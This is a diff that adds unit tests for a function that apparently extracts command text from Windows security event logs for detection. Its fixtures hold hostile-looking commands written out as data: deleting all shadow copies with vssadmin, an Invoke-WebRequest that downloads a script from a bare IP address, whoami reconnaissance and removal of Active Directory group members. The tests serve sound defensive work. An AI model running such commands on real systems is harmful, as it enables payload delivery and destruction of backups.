@@ -55,4 +55,37 @@ describe('behaviourTexts', () => {
     ).toEqual([{ field: 'process.commandLine', text: 'vssadmin delete shadows /all /quiet' }]);
     expect(behaviourTexts(event({}))).toEqual([]);
   });
+
+  it('reads a PowerShell module log as the commands it records, with the parameters they were given', () => {
+    // 4103: a module exporting its functions binds their names; the names are not commands run.
+    const payload = [
+      'CommandInvocation(Export-ModuleMember): "Export-ModuleMember"',
+      'ParameterBinding(Export-ModuleMember): name="Function"; value="Clear-DnsClientCache"',
+      'ParameterBinding(Export-ModuleMember): name="Alias"; value="*"',
+      'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"',
+      'ParameterBinding(Invoke-WebRequest): name="Uri"; value="http://198.51.100.7/a.ps1"',
+      'ParameterBinding(Invoke-WebRequest): name="OutFile"; value="C:\\Users\\Public\\a.ps1"',
+    ].join('\n');
+    expect(behaviourTexts(event({ code: '4103', fields: { Payload: payload } }))).toEqual([
+      { field: 'Payload', text: 'Export-ModuleMember -Function Clear-DnsClientCache -Alias *' },
+      {
+        field: 'Payload',
+        text: 'Invoke-WebRequest -Uri http://198.51.100.7/a.ps1 -OutFile C:\\Users\\Public\\a.ps1',
+      },
+    ]);
+  });
+
+  it('gives a bare program path as the program alone, and skips script statements of keywords and variables only', () => {
+    expect(behaviourTexts(event({ process: { commandLine: '"C:\\Windows\\System32\\cmd.exe"' } }))).toEqual([
+      { field: 'process.commandLine', text: 'cmd.exe' },
+    ]);
+    expect(behaviourTexts(event({ process: { commandLine: 'C:\\Windows\\System32\\whoami.exe /all' } }))).toEqual([
+      { field: 'process.commandLine', text: 'C:\\Windows\\System32\\whoami.exe /all' },
+    ]);
+    const script =
+      'foreach ($member in $members) {\nif ($member.Enabled) { return $false }\nRemove-ADGroupMember -Identity $group -Members $member\n}';
+    expect(behaviourTexts(event({ fields: { ScriptBlockText: script } })).map((text) => text.text)).toEqual([
+      'Remove-ADGroupMember -Identity $group -Members $member',
+    ]);
+  });
 });
